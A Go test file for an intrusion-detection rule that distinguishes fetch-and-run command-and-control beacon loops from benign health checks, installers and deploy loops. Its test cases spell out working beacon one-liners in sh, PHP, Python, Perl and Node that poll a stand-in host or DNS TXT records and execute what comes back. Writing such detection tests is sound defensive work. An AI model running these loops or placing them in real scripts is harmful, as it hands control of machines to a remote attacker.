package detect

import (
	"strings"
	"testing"
)

// TestFetchRunLoop: a shell loop that fetches and runs what it fetched is
// a beacon whoever runs it; a loop that only fetches (a health check), a
// one-off fetch-and-run (an installer) and a loop that runs local files
// are not.
func TestFetchRunLoop(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"while :; do curl -fsS http://198.51.100.7:8001/t | sh; sleep 3; done", true},
		{"while :; do\n  t=$(curl -s -m 5 \"gopher://198.51.100.7:7070/0/t/$i\")\n  printf '%s' \"$t\" | base64 -d > /tmp/.s-$i\n  sh /tmp/.s-$i\n  sleep 2\ndone", true},
		{"while :; do c=$(wget -q -O- -T 5 http://198.51.100.7/t); if [ -n \"$c\" ]; then eval \"$c\"; fi; sleep 5; done", true},
		{"until false; do dig +short TXT t.example.net | sh; sleep 9; done", true},
		{"while :; do curl -fsS http://127.0.0.1/health >/dev/null || logger down; sleep 5; done", false},
		{"curl -fsSL https://get.example.com/install.sh | sh", false},
		{"for f in /etc/cron.daily/*; do sh $f; done", false},
		// a retry ends: an installer fetched again until it works
		{"for i in 1 2 3; do curl -fsSL https://get.example.com/install.sh | sh && break; sleep 5; done", false},
		{"while sleep 30; do wget -qO- http://198.51.100.7/t | bash; done", true},
		// a bounded poll is still a beacon: twenty minutes of tasks
		{"n=0; while [ $n -lt 600 ]; do n=$((n+1)); c=$(curl -sk https://198.51.100.7/q | base64 -d); [ \"$c\" = x ] && break; sh -c \"$c\"; sleep 2; done", true},
		// an admin's loop over the fleet: host is its variable, not host(1)
		{"for host in web1 web2; do scp deploy.sh $host:/tmp/; ssh $host sh /tmp/deploy.sh; done", false},
		{"while :; do host -t txt t.example.net | cut -d'\"' -f2 | base64 -d | sh; sleep 30; done", true},
	} {
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		s := newSynth()
		fs := e.Observe(s.exec(400, 1, 0, "root", "/", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree)
		got := findingOf(fs, RuleFetchRunLoop)
		if (got != nil) != c.want {
			t.Errorf("%q: fetch-run-loop %v, want %v (%v)", c.cmd, got != nil, c.want, ids(fs))
			continue
		}
		if got != nil && (got.Severity != SeverityHigh || got.Stage != StageCommandAndControl) {
			t.Errorf("%q: %v at stage %v, want high at command and control", c.cmd, got.Severity, got.Stage)
		}
	}
}

// TestFetchLoopChannel: a flagged loop that no web server or plant is
// known to have started (a root implant double-forked by a library's
// constructor: no fork in the log) holds a channel from its first call of
// its server: the task it then runs is the loop's, flagged at once; the
// bare shell a `curl | sh` poll pipes into is not a task by itself.
func TestFetchLoopChannel(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	e.Observe(s.exec(400, 1, 0, "root", "/", "/usr/bin/dash", "sh", "-c",
		"while :; do t=$(curl -s http://198.51.100.7:7070/t); printf %s \"$t\" | base64 -d > /tmp/.s; sh /tmp/.s; sleep 2; done"), s.tree)
	e.Observe(s.exec(401, 400, 0, "root", "/", "/usr/bin/curl", "curl", "-s", "http://198.51.100.7:7070/t"), s.tree)
	e.Observe(s.connect(401, 400, 0, "/usr/bin/curl", "198.51.100.7", 7070), s.tree)
	task := findingOf(e.Observe(s.exec(402, 400, 0, "root", "/", "/usr/bin/dash", "sh", "/tmp/.s"), s.tree), "reverse-shell-channel-command")
	if task == nil {
		t.Fatal("the loop's task after its first poll is not flagged")
	}
	if task.Stage != StageCommandAndControl || !strings.Contains(task.Reason, "shell loop") {
		t.Errorf("task at stage %v (%s), want command and control, said to be the loop's", task.Stage, task.Reason)
	}
	if f := findingOf(e.Observe(s.exec(403, 400, 0, "root", "/", "/usr/bin/dash", "sh"), s.tree), "reverse-shell-channel-command"); f != nil {
		t.Errorf("a bare reader shell flagged as a task: %s", f.Reason)
	}
}

// TestFetchRunLoopInterpreter: the same beacon as an interpreter's
// one-liner (a loop, a fetch of a URL, an eval, exec or subprocess of what
// came back), run by root with no web server above it; a health check in
// a loop runs nothing it fetched. The loop's own call of its server opens
// its channel: the command it then starts is its task.
func TestFetchRunLoopInterpreter(t *testing.T) {
	for _, c := range []struct {
		argv []string
		want bool
	}{
		{[]string{"/usr/bin/php8.2", "-r", `while(1){$c=@file_get_contents("http://198.51.100.7/t");if($c)eval($c);sleep(5);}`}, true},
		{[]string{"/usr/bin/python3", "-c", "import urllib.request,time,subprocess\nwhile True:\n c=urllib.request.urlopen(\"http://198.51.100.7/t\").read().decode()\n subprocess.run(c,shell=True); time.sleep(5)"}, true},
		{[]string{"/usr/bin/perl", "-MLWP::Simple", "-e", `while(1){$c=get("http://198.51.100.7/t");system($c) if $c;sleep 5}`}, true},
		{[]string{"/usr/bin/node", "-e", `setInterval(()=>require("http").get("http://198.51.100.7/t",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>require("child_process").exec(d))}),5000)`}, true},
		{[]string{"/usr/bin/python3", "-c", "import urllib.request,time\nwhile True:\n urllib.request.urlopen(\"http://127.0.0.1/health\"); time.sleep(5)"}, false},
	} {
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		s := newSynth()
		s.exec(300, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
		got := findingOf(e.Observe(s.exec(400, 300, 0, "root", "/", c.argv[0], c.argv...), s.tree), RuleFetchRunLoop)
		if (got != nil) != c.want {
			t.Errorf("%q: fetch-run-loop %v, want %v", c.argv, got != nil, c.want)
			continue
		}
		if !c.want {
			continue
		}
		e.Observe(s.connect(400, 300, 0, c.argv[0], "198.51.100.7", 80), s.tree)
		task := e.Observe(s.exec(401, 400, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "cat /etc/hostname"), s.tree)
		if len(task) == 0 || task[0].Stage != StageCommandAndControl {
			t.Errorf("%q: its task: %v, want a finding inside the loop's channel (stage 7)", c.argv, ids(task))
		}
	}
}
